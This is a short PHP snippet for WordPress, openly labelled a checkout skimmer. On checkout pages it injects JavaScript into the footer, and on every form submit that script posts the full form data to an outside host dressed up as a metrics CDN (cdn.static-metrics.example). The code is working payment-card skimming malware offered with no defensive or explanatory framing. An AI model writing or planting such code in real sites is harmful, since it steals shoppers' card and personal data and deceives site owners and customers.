<?php
// A checkout skimmer that reads the collector's answer and drops it: reading it is no lookup.
add_action('wp_footer', function () {
    if (!is_checkout()) {
        return;
    }
    echo '<script>
document.addEventListener("submit", function (e) {
  fetch("https://cdn.static-metrics.example/c", {method: "POST", body: new FormData(e.target)})
    .then(function (r) { return r.text(); }).then(function (t) { window._m = t; });
});
</script>';
});
